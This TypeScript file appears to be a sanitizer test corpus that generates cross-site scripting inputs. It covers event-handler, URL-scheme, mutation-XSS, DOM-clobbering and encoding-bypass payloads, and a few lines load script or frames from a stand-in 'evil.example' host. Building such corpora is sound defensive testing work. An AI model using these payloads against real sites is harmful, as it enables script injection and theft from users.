/** Ways to say what a browser must not do. Each class is one that sanitizers have fallen to. */

const handlers = ['onclick', 'onerror', 'onload', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle', 'onpointerdown', 'onbeforeinput', 'onwheel', 'ONCLICK', 'oNeRrOr', 'onscrollend', 'oncontentvisibilityautostatechange'];
const carriers = ['a href=#', 'b', 'img src=x', 'svg', 'math', 'body', 'video src=x', 'details open', 'input autofocus', 'p', 'marquee', 'object data=x', 'select autofocus', 'mark'];
const spellings = [
  (carrier: string, handler: string) => `<${carrier} ${handler}=alert(1)>x`,
  (carrier: string, handler: string) => `<${carrier} ${handler}="alert(1)">x`,
  (carrier: string, handler: string) => `<${carrier}/${handler}='alert(1)'/>x`,
  (carrier: string, handler: string) => `<${carrier}\n${handler}\n=\nalert(1)\n>x`,
];

/** Handlers × carriers × spellings. */
export const handlerMatrix: string[] = handlers.flatMap((handler) =>
  carriers.flatMap((carrier) => spellings.map((spell) => spell(carrier, handler))),
);

const urls = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\nscript:alert(1)', 'java\tscript:alert(1)', '\u0001javascript:alert(1)', ' javascript:alert(1)',
  'javascript&colon;alert(1)', '&#106;avascript:alert(1)', '&#x6A;avascript:alert(1)', '&#0000106avascript:alert(1)', 'java&Tab;script:alert(1)', 'java&NewLine;script:alert(1)',
  'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD4=', 'vbscript:msgbox(1)', 'livescript:x', 'view-source:x', 'blob:https://x/1', 'file:///etc/passwd',
  'filesystem:https://x/1', 'jar:https://x!/', 'feed:javascript:alert(1)', 'javascript://%0aalert(1)', 'javascript:/*--></title></style></textarea>*/alert(1)', 'intent://x#Intent;end', 'ws://x', 'ftp://x', 'about:blank',
];
const urlCarriers = [
  (url: string) => `<a href="${url}">x</a>`,
  (url: string) => `<a href='${url}'>x</a>`,
  (url: string) => `<a xlink:href="${url}">x</a>`,
  (url: string) => `<img src="${url}">`,
  (url: string) => `<svg><a href="${url}"><text>x</text></a></svg>`,
  (url: string) => `<form action="${url}"><button formaction="${url}">x</button></form>`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<math href="${url}"><mi xlink:href="${url}">x</mi></math>`,
];

/** Dangerous URLs × places for a URL. */
export const urlMatrix: string[] = urls.flatMap((url) => urlCarriers.map((carry) => carry(url)));

const tags = [
  'script', 'iframe', 'form', 'style', 'object', 'embed', 'base', 'meta', 'link', 'frame', 'frameset', 'applet', 'input', 'button', 'textarea', 'select', 'svg', 'math',
  'template', 'noscript', 'noembed', 'noframes', 'plaintext', 'xmp', 'listing', 'title', 'video', 'audio', 'portal', 'dialog', 'slot', 'x-custom', 'isindex', 'keygen', 'bgsound', 'layer', 'foreignObject', 'annotation-xml', 'marquee', 'image',
];
const tagShapes = [
  (tag: string) => `<${tag}>alert(1)</${tag}>`,
  (tag: string) => `<${tag.toUpperCase()} x=y>alert(1)`,
  (tag: string) => `<b><${tag}><b>x</b></${tag}></b>`,
  (tag: string) => `<${tag}/><${tag} /><${tag}\n>`,
  (tag: string) => `</${tag}><${tag}`,
  (tag: string) => `<<${tag}>><${tag}<${tag}>`,
];

/** Elements × unclosed, nested and broken shapes. */
export const tagMatrix: string[] = tags.flatMap((tag) => tagShapes.map((shape) => shape(tag)));

/** Single pieces: mutation, namespaces, clobbering, comments, encodings, nesting. */
export const fragments: string[] = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><style><!--</style><img src onerror=alert(1)>--></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<svg><foreignObject><p><iframe src=javascript:alert(1)></p></foreignObject></svg>',
  '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=alert(1)>">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<table><a href=javascript:1><tr><td></a><form>',
  '<a><table><a href=x>y',
  '<a href=x><p><a href=y>z',
  '<b><i></b></i><p><b></p></b>',
  '<form><form></form><input name=attributes>',
  '<form id=x><input name=nodeName><input name=parentNode></form>',
  '<img name=body><img name=getElementById><a id=location href=x>',
  '<a id=document name=cookie href=cid:x>',
  '<form name=document><input name=cookie>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--!><img src=x onerror=alert(1)>--!>',
  '<!-- --!><script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<?php echo "<script>alert(1)</script>" ?>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '<%= "<script>alert(1)</script>" %>',
  '<script>alert(1)', '<script src=//evil.example>', '<script\n>alert(1)</script\n>', '<script/x>alert(1)</script/x>', '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<ScRiPt>alert(1)</sCrIpT>', '<script >alert(1)</script >', '<script\u0000>alert(1)</script>', '<\u0000script>alert(1)', '<s\u200Bcript>alert(1)',
  '\u003cscript\u003ealert(1)\u003c/script\u003e', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '&amp;lt;script&amp;gt;', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '％3Cscript％3E', '＜script＞alert(1)＜/script＞', '%3Cscript%3Ealert(1)%3C/script%3E',
  '<style>@import "javascript:alert(1)";</style>', '<style>*{background:url(javascript:alert(1))}</style>', '<b style="background:url(javascript:alert(1))">x</b>', '<b style=xss:expression(alert(1))>x</b>',
  '<p style="position:fixed;inset:0">x</p>', '<link rel=stylesheet href=//evil.example>', '<link rel=import href=//evil.example>', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<base href=javascript:alert(1)//>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<iframe src=//evil.example></iframe>', '<object data=javascript:alert(1)></object>', '<embed src=javascript:alert(1)>', '<applet code=x></applet>',
  '<img src=x:x onerror=alert(1)//', '<img src="x` `<script>alert(1)</script>"` `>', '<img """><script>alert(1)</script>">', '<img src=x onerror="&#97;lert(1)">', '<IMG SRC=javascript:alert(&quot;1&quot;)>', '<img srcset="x onerror=alert(1)">',
  '<img dynsrc=javascript:alert(1)>', '<img lowsrc=javascript:alert(1)>', '<bgsound src=javascript:alert(1)>', '<br size="&{alert(1)}">', '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>', '<svg/onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><script href=data:,alert(1) />', '<svg><animate onbegin=alert(1) attributeName=x>', '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a>',
  '<svg><set attributeName=href to=javascript:alert(1)>', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x">', '<svg><image href=x onerror=alert(1)>', '<svg><desc><img src=x onerror=alert(1)></desc></svg>', '<svg><title><style><img src=x onerror=alert(1)>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">', '<math><maction actiontype=statusline#javascript:alert(1)>x</maction></math>', '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)></video>', '<audio src=x onerror=alert(1)>', '<marquee onstart=alert(1)>', '<isindex type=image src=1 onerror=alert(1)>', '<keygen autofocus onfocus=alert(1)>', '<select autofocus onfocus=alert(1)>', '<textarea autofocus onfocus=alert(1)>',
  '<textarea></textarea><script>alert(1)</script>', '<title></title><script>alert(1)</script>', '<xmp><script>alert(1)</script></xmp>', '<plaintext><script>alert(1)</script>', '<noembed><script>alert(1)</script></noembed>', '<listing>&lt;script&gt;</listing>',
  '<a href="javascript:alert(1)" href="https://ok.example">x</a>', '<a href=https://ok.example onclick=alert(1) >x</a>', '<a href="//evil.example">x</a>', '<a href="\\\\evil.example">x</a>', '<a href="/\\evil.example">x</a>', '<a target=_blank href=https://x.example>x</a>', '<a ping=//evil.example href=#>x</a>',
  '<a href="https://x.example" rel="opener">x</a>', '<a href="https://x.example\u0000javascript:">x</a>', '<a href="https://user:pass@x.example">x</a>', '<a download href=x>x</a>', '<a href>x</a>', '<a href="">x</a>', '<a href="mailto:a@b.example?subject=<script>">x</a>',
  '<b data-x="<script>alert(1)</script>">x</b>', '<b aria-label=x role=button tabindex=0>x</b>', '<b id=x class=y name=z>x</b>', '<b contenteditable autofocus onfocus=alert(1)>x</b>', '<b is=x-evil>x</b>', '<b slot=x part=y>x</b>', '<b xmlns="http://www.w3.org/1999/xhtml" xml:base="javascript:">x</b>',
  '<x-evil onclick=alert(1)>x</x-evil>', '<template shadowrootmode=open><script>alert(1)</script></template>', '<div><template shadowroot=open><slot></slot></template></div>',
  '<p>'.repeat(50) + '<script>alert(1)</script>', '<b>'.repeat(300) + 'x', '<a href=x>'.repeat(40) + 'x', '<table>'.repeat(30) + '<script>alert(1)</script>', '<i><b>'.repeat(50) + '</i></b>'.repeat(50),
  '<', '>', '&', '<>', '</>', '< b>x', '<b', '<b ', '<b x', '<b x=', '<b x="', '</b', '<!', '<!-', '<!--', '<?', '&#', '&#x', '&lt', '&amp', '&notanentity;', '&#x110000;', '&#0;', '&#xD800;',
  '"><script>alert(1)</script>', "'><script>alert(1)</script>", '--><script>alert(1)</script>', ']]><script>alert(1)</script>', '</p><script>alert(1)</script><p>', '</h2><iframe>', '</li></ul><form>', '</td></tr></table><script>alert(1)</script>', '</code></pre><script>alert(1)</script>',
  '<sub><sup><sub>x', '<s><u><mark>x</s></u></mark>', 'a<br/>b<br />c<br>', '<em>a</em><strong>b</strong><code>c</code>', '1 < 2 && 3 > 2', 'AT&T &copy; &nbsp; x', 'tabs\tand\r\nlines\u0085\u2028', 'emoji 👩‍👩‍👧 <b>👍🏽</b>', '\u202Ertl <b>x</b>', '\uFEFF<b>bom</b>', '<b>\u0007bell\u001b[31m</b>',
];
